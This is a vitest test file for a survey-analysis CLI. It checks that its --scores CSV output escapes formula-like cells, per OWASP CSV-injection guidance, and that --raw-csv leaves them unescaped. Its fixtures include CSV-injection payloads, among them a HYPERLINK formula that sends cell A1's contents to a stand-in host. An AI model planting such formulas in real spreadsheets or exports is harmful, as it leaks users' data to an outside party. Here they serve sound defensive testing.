// --scores neutralises cells a spreadsheet would run as formulas (OWASP's CSV-injection advice:
// a leading ' before = + - @ tab or CR; cells are trimmed on reading, so in practice a tab or
// CR never starts one); --raw-csv writes them as they are, for code to read.

import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assertBuilt, removeTempFolders, run, tempFolder } from './helpers.js';

beforeAll(() => assertBuilt());
afterAll(() => removeTempFolders());

const CODEBOOK = ['-c', 'test/fixtures/bad/tiny.codebook.yaml'];
const IDS = ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '@SUM(A1)', '-2', '-1+1', 'plain'];

function survey(): string {
  const folder = tempFolder('gbv-raw-csv-');
  const file = join(folder, 'survey.csv');
  const rows = IDS.map((id, i) => `${id.startsWith('=') ? `"${id.replace(/"/g, '""')}"` : id},${i < 3 ? 'capacitado' : 'control'},4,${i + 1 > 5 ? 5 : i + 1},2`);
  writeFileSync(file, `folio,grupo,a1,a2,a3\n${rows.join('\n')}\n`);
  return file;
}

describe('--scores and --raw-csv', () => {
  it('--scores quotes cells that start like a formula, but not negative numbers', () => {
    const file = survey();
    const scores = join(tempFolder(), 'scores.csv');
    const result = run(['analyze', file, ...CODEBOOK, '--scores', scores]);
    expect(result.code, result.stderr).toBe(0);
    const ids = readFileSync(scores, 'utf8').trimEnd().split('\n').slice(1).map((line) => line.slice(0, line.lastIndexOf(',', line.lastIndexOf(',') - 1)));
    expect(ids).toEqual([`"'=HYPERLINK(""http://x.example/?""&A1)"`, "'+1+1", "'@SUM(A1)", '-2', "'-1+1", 'plain']);
  });

  it('--raw-csv writes every cell exactly as the survey has it', () => {
    const file = survey();
    const scores = join(tempFolder(), 'scores.csv');
    const result = run(['analyze', file, ...CODEBOOK, '--scores', scores, '--raw-csv']);
    expect(result.code, result.stderr).toBe(0);
    const ids = readFileSync(scores, 'utf8').trimEnd().split('\n').slice(1).map((line) => line.slice(0, line.lastIndexOf(',', line.lastIndexOf(',') - 1)));
    expect(ids).toEqual([`"=HYPERLINK(""http://x.example/?""&A1)"`, '+1+1', '@SUM(A1)', '-2', '-1+1', 'plain']);
  });

  it('--raw-csv without --scores is a usage error (exit 2)', () => {
    const result = run(['analyze', 'test/fixtures/bad/tiny.csv', ...CODEBOOK, '--raw-csv']);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('gbv-impact: --raw-csv goes with --scores: it is how the scores CSV is written\n');
  });

  it('is documented in --help', () => {
    const help = run(['analyze', '--help']).stdout;
    expect(help).toContain('--raw-csv');
    expect(help).toMatch(/--scores <file>[\s\S]*formula/);
  });
});
